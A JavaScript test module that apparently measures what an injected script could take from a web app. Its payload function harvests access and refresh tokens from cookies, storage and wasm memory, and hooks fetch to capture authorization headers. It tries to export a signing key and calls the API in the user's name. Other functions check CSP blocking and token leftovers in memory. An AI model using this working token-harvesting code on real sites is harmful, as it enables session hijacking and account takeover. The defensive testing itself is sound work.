// What a script does that somebody has managed to put into this page. It knows what anybody can read in the source of the app.
// An access token names its session, and the refresh token of a session begins with that name.
let begins;
const named = (access) => {
    const { sid } = JSON.parse(atob(access.split('.')[1].replaceAll('-', '+').replaceAll('_', '/')));
    const bytes = sid.replaceAll('-', '').match(/../g).map((pair) => String.fromCharCode(parseInt(pair, 16)));
    return btoa(bytes.slice(0, 15).join('')).replaceAll('+', '-').replaceAll('/', '_');
};

const all = (text, pattern) => [...new Set(text.match(new RegExp(pattern, 'g')) ?? [])].slice(0, 40);

const pick = (text) => {
    const access = all(text, 'eyJ[\\w-]{20,}\\.eyJ[\\w-]{40,}\\.[\\w-]{43}');
    begins ??= access.map(named)[0];
    return { access, refresh: all(text, begins ? `${begins}[\\w-]{56}` : '(?<![\\w-])[\\w-]{76}(?![\\w-])') };
};

const came = (request) => new Promise((tell) => (request.onsuccess = () => tell(request.result)));

const takeKey = async () => {
    const database = await came(indexedDB.open('nightlatch.key'));
    const { privateKey } = await came(database.transaction('keys').objectStore('keys').get('mine'));
    database.close();
    return crypto.subtle.exportKey('jwk', privateKey).then(() => true, () => false);
};

export async function payload(wait) {
    const loot = {};
    begins = undefined;
    // Cookies, as far as scripts see them, and what lies open.
    loot.cookie = pick(document.cookie);
    loot.browser = pick(JSON.stringify({ ...localStorage }));
    loot.tab = pick(JSON.stringify({ ...sessionStorage }));

    // Listens in, until the page asks its server for something.
    const { fetch } = window;
    let heard = '';
    window.fetch = (target, options) => {
        const { headers } = new Request(target, options);
        heard ||= headers.get('authorization') ?? '';
        return fetch(target, options);
    };
    await wait();
    window.fetch = fetch;
    loot.wire = pick(heard);

    // The memory of the page's wasm: its module gives it to whoever asks a second time.
    const { default: init } = await import(document.querySelector('link[rel="modulepreload"]').href);
    const { memory } = await init();
    loot.memory = pick(new TextDecoder('latin1').decode(memory.buffer));

    // The page may sign what it sends. Its key is worth more than any token, if the browser gives it away.
    const signs = heard.startsWith('DPoP');
    loot.key = signs ? await takeKey() : null;

    // The API may be talkative. What the page's own script signs for the page, it signs for whoever asks.
    const token = [loot.wire, loot.browser, loot.tab, loot.memory].flatMap(({ access }) => access)[0];
    const scripts = performance.getEntriesByType('resource').map(({ name }) => name);
    const { prove } = signs ? await import(scripts.find((name) => /\/key[\w-]*\.js$/.test(name))) : {};
    const ask = async (path, method = 'GET') => {
        const headers = token ? { authorization: `${signs ? 'DPoP' : 'Bearer'} ${token}` } : {};
        if (signs) headers.dpop = await prove(method, path, token);
        return fetch(path, { method, headers });
    };
    loot.api = pick(await (await ask('/api/sessions')).text());

    // No theft needed: reads what the owner sees, and acts in the owner's name, as long as the page is open.
    const feed = await ask('/api/feed');
    loot.read = feed.ok;
    const someone = feed.ok && (await feed.json()).items[0]?.username;
    const follow = `/api/users/${someone}/follow`;
    loot.acted = Boolean(someone) && (await ask(follow, 'DELETE')).ok && (await ask(follow, 'PUT')).ok;
    return JSON.stringify(loot);
}

// The same as an inline script, which is how most injections arrive. Answers with the directive that forbade it.
export async function inline() {
    const forbidden = new Promise((tell) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => tell(effectiveDirective), { once: true });
        setTimeout(() => tell(''), 1000);
    });
    const script = document.createElement('script');
    script.textContent = 'document.documentElement.dataset.injected = "yes"';
    document.body.append(script);
    script.remove();
    const { injected } = document.documentElement.dataset;
    delete document.documentElement.dataset.injected;
    return injected ? '' : forbidden;
}

const bytes = async () => {
    const { default: init } = await import(document.querySelector('link[rel="modulepreload"]').href);
    return new TextDecoder('latin1').decode((await init()).memory.buffer);
};

// The tokens that are in the memory of the page's wasm now. Kept out here: in there they would be found for having been looked for.
let known = [];

export async function remember() {
    begins = undefined;
    const { access, refresh } = pick(await bytes());
    known = [...access, ...refresh];
    return known.length;
}

// How many of them are still there.
export async function remains() {
    const text = await bytes();
    return known.filter((token) => text.includes(token)).length;
}
